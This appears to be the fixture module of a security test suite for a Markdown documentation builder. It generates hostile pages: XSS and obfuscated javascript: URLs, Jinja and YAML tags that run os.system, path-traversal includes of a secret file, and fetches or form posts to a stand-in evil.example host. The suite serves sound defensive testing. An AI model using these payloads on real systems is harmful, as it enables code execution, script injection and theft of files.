"""The attacks: pages that try to run, read, fetch or show what they must not.

Each is written from what an attacker wants, not from what a check looks for. ``CANARY`` stands in
a file outside of the manual; ``RUN`` is a file that an attack would make; ``EVIL`` is a host that
nothing may be fetched from.
"""

from __future__ import annotations

from dataclasses import dataclass, field

CANARY = "canary-7f3a-outside"
EVIL = "evil.example"
RUN = "ran-by-a-page"
SCRIPT = "<script>alert(1)</script>"


@dataclass(frozen=True)
class Attack:
    """Files below the manual's folder: texts by path, and links by path with where they lead.

    ``{out}`` in a text or link is the folder outside, which holds the canary.
    """

    name: str
    files: dict[str, str] = field(default_factory=dict)
    links: dict[str, str] = field(default_factory=dict)


def page(name: str, body: str, above: str = "") -> Attack:
    """An attack by one page."""
    return Attack(name, {"attack.md": f"{above}# Attack\n\n{body}\n"})


SPELLINGS = {
    "plain": "javascript:alert(1)",
    "capitals": "JaVaScRiPt:alert(1)",
    "space": " javascript:alert(1)",
    "decimal": "java&#115;cript:alert(1)",
    "hex": "java&#x73;cript:alert(1)",
    "named": "javascript&colon;alert(1)",
    "tab": "java&Tab;script:alert(1)",
    "line": "java&NewLine;script:alert(1)",
    "percent": "java%73cript:alert(1)",
    "percent-colon": "javascript%3Aalert(1)",
    "control": "%01javascript:alert(1)",
    "backslash": "javascript\\:alert(1)",
    "slashes": "javascript://%0aalert(1)",
    "data": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vb": "vbscript:msgbox(1)",
    "file": "file:///etc/passwd",
    "view": "view-source:file:///etc/passwd",
    "blob": "blob:https://evil.example/x",
    "tel": "tel:+1234567",
}
NO_AUTOLINK = frozenset(
    {"space", "decimal", "hex", "named", "tab", "line", "percent", "percent-colon", "control",
     "backslash"}
)  # fmt: skip
"""Spellings that make plain text of what stands between ``<`` and ``>``."""

PLACES = {
    "link": "[x]({})",
    "pointed": "[x](<{}>)",
    "titled": '[x]({} "title")',
    "definition": "[x]\n\n[x]: {}",
    "autolink": "<{}>",
    "picture": "![x]({})",
    "in a table": "| a |\n|---|\n| [x]({}) |",
    "in a note": ":::{{note}}\n[x]({})\n:::",
    "in a title": ":::{{dropdown}} [x]({})\ny\n:::",
    "in a list": "- a\n  1. [x]({})",
    "in a definition list": "term\n: [x]({})",
    "in a footnote": "a[^1]\n\n[^1]: [x]({})",
    "in a heading": "## [x]({})",
    "image directive": "```{{image}} {}\n```",
    "figure directive": "```{{figure}} {}\n\nCaption\n```",
    "image target": "```{{image}} p.png\n:target: {}\n```",
    "card link": ":::{{card}} T\n:link: {}\nx\n:::",
    "button": "```{{button-link}} {}\nx\n```",
    "contents": "```{{toctree}}\n\nTitle <{}>\n```",
    "bare contents": "```{{toctree}}\n\n{}\n```",
    "quoted option": '```{{image}} p.png\n:target: "{}"\n```',
}
HTML = {
    "script": SCRIPT,
    "handler": '<img src="x" onerror="alert(1)">',
    "svg": '<svg onload="alert(1)"></svg>',
    "frame": '<iframe src="https://evil.example/"></iframe>',
    "base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "style": "<style>@import 'https://evil.example/x.css'</style>",
    "form": '<form action="https://evil.example/"><input name="pin"></form>',
    "comment end": f"<!--> {SCRIPT} -->",
    "comment end bang": f"<!-- a --!> {SCRIPT} -->",
    "instruction": "<?x?><script>alert(1)</script>",
    "cdata": f"<![CDATA[{SCRIPT}]]>",
}
HTML_PLACES = {
    "block": "{}",
    "inline": "Look {} here",
    "cell": "| a |\n|---|\n| {} |",
    "heading": "## Part {}",
    "list": "- a\n- {}",
    "quote": "> {}",
    "note": ":::{{note}}\n{}\n:::",
    "title": ":::{{admonition}} T {}\nx\n:::",
    "dropdown": ":::{{dropdown}} T {}\nx\n:::",
    "footnote": "a[^1]\n\n[^1]: b {}",
    "link text": "[{}](index.md)",
    "caption": "```{{figure}} p.png\n\nCaption {}\n```",
}
SETTINGS = {
    "substitution": "enable_extensions: [substitution]",
    "html_meta": "html_meta: {refresh: '0'}",
    "url_schemes": "url_schemes: {https: {url: 'javascript:alert(1)//{{uri}}'}}",
    "disable_syntax": "disable_syntax: [fence, backticks]",
    "fence_as_directive": "fence_as_directive: [raw]",
    "substitutions": "substitutions: {x: '{{ env }}'}",
    "all_links_external": "all_links_external: true",
    "commonmark_only": "commonmark_only: true",
    "gfm_only": "gfm_only: true",
    "title_to_header": "title_to_header: true",
    "heading_anchors": "heading_anchors: 6",
    "no extensions": "enable_extensions: []",
    "sub_delimiters": "sub_delimiters: ['[', ']']",
    "inventories": "inventories: {x: ['https://evil.example', null]}",
    "linkify": "enable_extensions: [linkify, gfm_autolink]",
    "attributes": "enable_extensions: [attrs_inline, attrs_block]",
    "html": "enable_extensions: [html_image, html_admonition]",
    "math": "enable_extensions: [dollarmath, amsmath]",
}
JINJA = (
    "{{{{ cycler.__init__.__globals__.os.popen('touch {run}').read() }}}}\n\n"
    "{{{{ lipsum.__globals__['os'].system('touch {run}') }}}}\n\n"
    "{{{{ env.srcdir }}}}"
)
ABOVE = {
    "myst": "myst:\n  enable_extensions: [substitution]",
    "flow": "{{myst: {{enable_extensions: [substitution]}}}}",
    "anchor": "a: &a {{enable_extensions: [substitution]}}\nmyst: *a",
    "merge": "x: &a {{enable_extensions: [substitution]}}\nmyst:\n  <<: *a",
    "tag": "myst: !!python/object/apply:os.system ['touch {run}']",
    "tag of a name": "!!python/name:os.system x: 1",
    "html_meta": "html_meta:\n  '\"x onload=alert(1)': y",
    "html_meta refresh": "html_meta:\n  http-equiv=refresh: '0;url=https://evil.example'",
    "mystnb": "mystnb: {{execution_mode: force}}",
    "kernel": "kernelspec: {{name: python3}}",
    "substitutions": "substitutions: {{a: b}}",
    "orphan of a list": "orphan: [1]",
    "tocdepth of much": "tocdepth: 99999999999",
    "bomb": "a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]",
    "no mapping": "- a\n- b",
    "broken": "a: [",
    "title": "title: <script>alert(1)</script>",
    "date": "date: 2026-01-01",
}
READING = {
    "include": "```{include} {out}/secret.txt\n```",
    "include up": "```{include} ../../../../../../..{out}/secret.txt\n```",
    "literal include": "```{literalinclude} {out}/secret.txt\n```",
    "literal include up": "```{literalinclude} ../../../../../..{out}/secret.txt\n```",
    "literal diff": "```{literalinclude} index.md\n:diff: {out}/secret.txt\n```",
    "csv file": "```{csv-table} T\n:file: {out}/secret.txt\n```",
    "csv url": "```{csv-table} T\n:url: https://evil.example/x.csv\n```",
    "csv cells": "```{csv-table} T\n<script>alert(1)</script>,2\n```",
    "raw file": "```{raw} html\n:file: {out}/secret.txt\n```",
    "raw url": "```{raw} html\n:url: https://evil.example/x\n```",
    "raw": "```{raw} html\n<script>alert(1)</script>\n```",
    "rst": "```{eval-rst}\n.. include:: {out}/secret.txt\n```",
    "rst raw": "```{eval-rst}\n.. raw:: html\n\n   <script>alert(1)</script>\n```",
    "list-table": "```{list-table}\n* - <script>alert(1)</script>\n```",
    "role maker": "```{role} evil(raw)\n:format: html\n```\n\n{evil}`<script>alert(1)</script>`",
    "default role": "```{default-role} raw\n```",
    "meta": "```{meta}\n:refresh: 0;url=https://evil.example\n```",
    "math": "```{math}\n\\href{javascript:alert(1)}{x}\n```",
    "graph": "```{graphviz}\ndigraph {a}\n```",
    "download": "{download}`{out}/secret.txt`",
    "download link": "[x]({out}/secret.txt)",
    "download up": "[x](../../../../../../..{out}/secret.txt)",
    "picture": "![x](../../../../../../..{out}/secret.png)",
    "picture absolute": "![x](/../../../../../..{out}/secret.png)",
    "picture percent": "![x](%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e{out}/secret.png)",
    "picture directive": "```{image} ../../../../../..{out}/secret.png\n```",
    "figure": "```{figure} ../../../../../..{out}/secret.png\n```",
    "picture star": "```{image} ../../../../../..{out}/*\n```",
    "picture elsewhere": "![x](https://evil.example/x.png)",
    "picture by definition": "![x][y]\n\n[y]: https://evil.example/x.png",
    "picture from a host": "![x](//evil.example/x.png)",
    "figure elsewhere": "```{figure} https://evil.example/x.png\n```",
    "contents up": "```{toctree}\n\n../../../../../..{out}/secret\n```",
    "contents pattern": "```{toctree}\n:glob:\n\n../../../../../..{out}/*\n```",
    "inventory": "[x](inv:python#os)",
    "inventory role": "{external+python:py:mod}`os`",
    "path link": "[x](path:../../../../..{out}/secret.txt)",
    "pull": (
        "```{dyno-session} s\nvehicle: v\ndyno: {kind: chassis}\n"
        "conditions: {gear: 4, fuel: 93 AKI}\ncorrection: none\n"
        "before:\n  - {pull: ../../../../../..{out}/secret.txt}\n"
        "after:\n  - {pull: {out}/secret.txt}\n```"
    ),
    "raw role": "{raw}`<script>alert(1)</script>`",
    "only": "```{only} html\n<script>alert(1)</script>\n```",
    "class": ":::sd-d-none\nhidden\n:::",
    "class directive": "```{class} sd-d-none\n```\n\nhidden",
    "div": ":::{div} sd-d-none\nhidden\n:::",
    "container": ":::{container} page-car\nx\n:::",
    "option class": ":::{note}\n:class: sd-d-none\n\nx\n:::",
    "option name": ":::{note}\n:name: search\n\nx\n:::",
    "option yaml": ":::{note}\n---\nclass: sd-d-none\n---\nx\n:::",
    "option quoted": ':::{dropdown} T\n:"class-container": "sd-d-none"\n\nx\n:::',
    "option folded": "```{image} p.png\n:alt: >\n  x\n:target: javascript:alert(1)\n```",
    "code to show": "```{code-block} python\n:caption: <script>alert(1)</script>\n\nx\n```",
    "icon": "{octicon}`alert;1em;sd-text-info`",
    "badge": "{bdg-link-primary}`https://evil.example`",
    "domain": "```{py:function} f(x: <script>alert(1)</script>)\n```",
    "js domain": "```{js:function} f\n```",
    "index": "```{index} single: x\n```",
    "highlight": "```{highlight} python\n```",
    "program": "```{program} x\n```",
    "capitals": "```{INCLUDE} {out}/secret.txt\n```",
    "language": "``` <script>\nx\n```",
    "figure-md": ":::{figure-md}\n![x](https://evil.example/x.png)\n:::",
    "include in a list": "- ```{include} {out}/secret.txt\n  ```",
    "include in a quote": "> ```{include} {out}/secret.txt\n> ```",
    "include in a step": ":::{step} S\n```{include} {out}/secret.txt\n```\n:::",
    "include in a card": ":::{card} T\n```{include} {out}/secret.txt\n```\n:::",
    "include in a table": ":::{table} T\n```{include} {out}/secret.txt\n```\n:::",
    "hidden by a card rule": ":::{card} T\n```\n^^^\n<script>alert(1)</script>\n```\n:::",
    "code that runs": "```python\n>>> __import__('os').system('touch {run}')\n```",
    "console": "```console\n$ procedures build --output {out}/x\n```",
    "private signs": "\ue000javascript:alert(1)#x\ue001",
}
FILES = {
    "python": {"conftest.py": "open({run!r}, 'w')\n"},
    "test": {"procedures/test_x.py": "open({run!r}, 'w')\n"},
    "settings": {"conf.py": "open({run!r}, 'w')\n"},
    "page in rst": {"evil.rst": "Evil\n====\n\n.. raw:: html\n\n   <script>alert(1)</script>\n"},
    "page in html": {"evil.html": SCRIPT},
    "script": {"evil.js": "alert(1)\n", "attack.md": "# Attack\n\n[x](evil.js)\n"},
    "drawing": {"x.svg": f"<svg>{SCRIPT}</svg>", "attack.md": "# Attack\n\n![x](x.svg)\n"},
    "no picture": {"x.png": SCRIPT, "attack.md": "# Attack\n\n![x](x.png)\n"},
    "program to fetch": {"x.exe": "MZ", "attack.md": "# Attack\n\n[x](x.exe)\n"},
    "translation": {"locales/en/LC_MESSAGES/attack.po": 'msgid "a"\nmsgstr "b"\n'},
    "circle": {
        "attack.md": "# Attack\n\n```{toctree}\nb\n```\n",
        "b.md": "# B\n\n```{toctree}\nattack\n```\n",
    },
    "itself": {"attack.md": "# Attack\n\n```{toctree}\nattack\n```\n"},
    "to the first page": {"attack.md": "# Attack\n\n```{toctree}\nindex\n```\n"},
    "search page": {"search.md": "# Search\n\nx\n"},
    "odd name": {"what?.md": "# What\n"},
    "name with a mark": {"x#y.md": "# What\n"},
    "folder like a page": {"attack.html/x.md": "# X\n"},
    "lists of the site": {"offline/x.md": "# X\n"},
}
LINKS = {
    "page": {"attack.md": "{out}/secret.txt"},
    "picture": {"p.png": "{out}/secret.png"},
    "folder": {"more": "{out}"},
    "root": {"all": "/"},
    "round": {"more": "."},
    "itself": {"attack.md": "attack.md"},
    "nothing": {"attack.md": "nowhere.md"},
}


def attacks() -> list[Attack]:
    """All of them, each by a name of its own."""
    made = [
        page(f"{place} {spelling}", form.format(address))
        for spelling, address in SPELLINGS.items()
        for place, form in PLACES.items()
        if not (place == "autolink" and spelling in NO_AUTOLINK)
    ]
    made += [
        page(f"html {kind} in {place}", form.format(html))
        for kind, html in HTML.items()
        for place, form in HTML_PLACES.items()
    ]
    made += [
        page(f"setting {name}", JINJA.replace("{{", "{").replace("}}", "}"),
             f"---\nmyst:\n  {text}\n---\n")
        for name, text in SETTINGS.items()
    ]  # fmt: skip
    made += [
        page(f"above {name}", JINJA.replace("{{", "{").replace("}}", "}"),
             f"---\n{text.replace('{{', '{').replace('}}', '}')}\n---\n")
        for name, text in ABOVE.items()
    ]  # fmt: skip
    made += [page(f"body {name}", body) for name, body in READING.items()]
    made += [Attack(f"files {name}", files) for name, files in FILES.items()]
    picture = "# Attack\n\n![x](p.png)\n"
    made += [
        Attack(f"link {name}", {"attack.md": picture} if "p.png" in links else {}, links)
        for name, links in LINKS.items()
    ]
    return made
